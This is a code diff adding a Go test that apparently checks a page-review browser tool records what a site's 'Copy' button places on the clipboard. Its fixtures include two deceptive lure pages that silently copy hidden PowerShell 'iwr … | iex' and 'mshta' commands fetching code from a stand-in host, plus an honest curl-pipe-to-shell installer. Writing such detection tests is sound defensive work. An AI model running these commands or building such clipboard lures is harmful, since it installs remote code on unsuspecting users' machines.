@@ -251,3 +251,42 @@ x.font = "32px sans-serif"; x.fillText("Claim your reward", 20, 80); x.fillText(
 		}
 	}
 }
+
+// TestReviewRecordsTheClipboard: what a page's script puts on the clipboard when its "Copy"
+// button is pressed is recorded — by navigator.clipboard.writeText (given to a page served
+// without TLS) or by a copy command on a hidden field —, and so is an honest page's copy of
+// the command it shows.
+func TestReviewRecordsTheClipboard(t *testing.T) {
+	t.Parallel()
+	b := sharedBrowser(t)
+	hidden := `powershell -w h -c "iwr http://cdn.example.top/a.ps1 | iex"   # C:\company\share\letter.docx`
+	netw.handleHTML("clip-write.test", `<!doctype html><title>Shared file</title>
+<p>Open it from File Explorer: copy the path, press Win+E, paste it in the address bar.</p>
+<p><code>C:\company\share\letter.docx</code></p><button id="c">Copy</button>
+<script>document.getElementById("c").onclick = () => navigator.clipboard.writeText(String.raw`+"`"+hidden+"`"+`);</script>`)
+	netw.handleHTML("clip-exec.test", `<!doctype html><title>Verify</title><p>Press Win+R, paste and press Enter.</p>
+<button id="c">Copy code</button>
+<script>document.getElementById("c").onclick = () => {
+  const t = document.createElement("textarea"); t.value = "mshta http://cdn.example.top/v.hta";
+  t.style.position = "absolute"; t.style.left = "-9999px"; document.body.appendChild(t);
+  t.focus(); t.select(); document.execCommand("copy"); t.remove();
+};</script>`)
+	netw.handleHTML("clip-honest.test", `<!doctype html><title>Install</title><p>Install the command line tool:</p>
+<pre id="cmd">curl -fsSL https://tool.example.dev/install.sh | sh</pre><button id="c">Copy</button>
+<script>document.getElementById("c").onclick = () => navigator.clipboard.writeText(document.getElementById("cmd").innerText);</script>`)
+	for _, c := range []struct{ url, want string }{
+		{"http://clip-write.test/", hidden},
+		{"http://clip-exec.test/", "mshta http://cdn.example.top/v.hta"},
+		{"http://clip-honest.test/", "curl -fsSL https://tool.example.dev/install.sh | sh"},
+	} {
+		captures, err := b.Review(context.Background(), c.url)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, capt := range captures {
+			if capt.Error != "" || !slices.Equal(capt.Clipboard, []string{c.want}) {
+				t.Errorf("%s, %s: error %q, clipboard %q, want %q", c.url, capt.Profile, capt.Error, capt.Clipboard, c.want)
+			}
+		}
+	}
+}
